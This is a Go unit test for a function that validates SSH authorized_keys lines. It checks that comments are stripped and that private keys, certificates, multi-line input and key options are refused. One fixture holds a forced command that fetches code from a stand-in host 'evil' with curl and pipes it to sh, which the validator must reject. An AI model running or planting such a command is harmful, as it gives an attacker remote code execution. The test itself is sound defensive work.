package concourse

import (
	"crypto/ed25519"
	"crypto/rand"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"
)

func TestCanonicalPublicKey(t *testing.T) {
	t.Parallel()
	priv, rsaLine, err := GenerateKey(rand.Reader, testBits)
	if err != nil {
		t.Fatal(err)
	}
	edPub, edPriv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	sshEd, err := ssh.NewPublicKey(edPub)
	if err != nil {
		t.Fatal(err)
	}
	edLine := strings.TrimSpace(string(ssh.MarshalAuthorizedKey(sshEd)))
	signer, err := ssh.NewSignerFromKey(edPriv)
	if err != nil {
		t.Fatal(err)
	}
	cert := &ssh.Certificate{Key: sshEd, CertType: ssh.UserCert, ValidPrincipals: []string{"worker"}, ValidBefore: ssh.CertTimeInfinity}
	if err := cert.SignCert(rand.Reader, signer); err != nil {
		t.Fatal(err)
	}
	certLine := strings.TrimSpace(string(ssh.MarshalAuthorizedKey(cert)))

	for _, c := range []struct {
		name, in, want, err string
	}{
		{"the charm's own line is kept as it is", rsaLine, rsaLine, ""},
		{"a comment and surrounding blanks are dropped", "  " + rsaLine + " worker@host\n", rsaLine, ""},
		{"another key type is accepted", edLine + " me", edLine, ""},
		{"a second key after the comment is not kept", rsaLine + " " + edLine, rsaLine, ""},
		{"garbage", "hello, I am a key", "", "not an SSH public key"},
		{"a base64 blob that is not a key", "ssh-rsa QUFBQUFBQUFBQUFB", "", "not an SSH public key"},
		{"a forced command", `command="/bin/sh -c 'curl evil|sh'" ` + rsaLine, "", "options (command)"},
		{"several options", `from="10.0.0.0/8",no-pty,permitopen="1:2",restrict ` + rsaLine, "", "options (from,no-pty,permitopen)"},
		{"a second key on a second line", rsaLine + "\n" + edLine, "", "more than one line"},
		{"a second key after a carriage return", rsaLine + "\r" + edLine, "", "more than one line"},
		{"a private key", string(priv), "", "private key"},
		{"a private key on one line", strings.ReplaceAll(string(priv), "\n", " "), "", "private key"},
		{"a certificate", certLine, "", "certificate"},
		{"nothing", " \n", "", "empty"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, err := CanonicalPublicKey(c.in)
			if c.err == "" {
				if err != nil || got != c.want {
					t.Fatalf("CanonicalPublicKey = %q, %v; want %q", got, err, c.want)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), c.err) {
				t.Fatalf("CanonicalPublicKey = %q, %v; want an error containing %q", got, err, c.err)
			}
			// The value is the other side's: the error describes it and never repeats it.
			body := strings.Fields(rsaLine)[1][:24]
			if strings.Contains(err.Error(), body) || strings.Contains(err.Error(), "QUFB") || strings.Contains(err.Error(), "curl") || strings.Contains(err.Error(), "hello") {
				t.Errorf("error repeats the value: %v", err)
			}
		})
	}
}
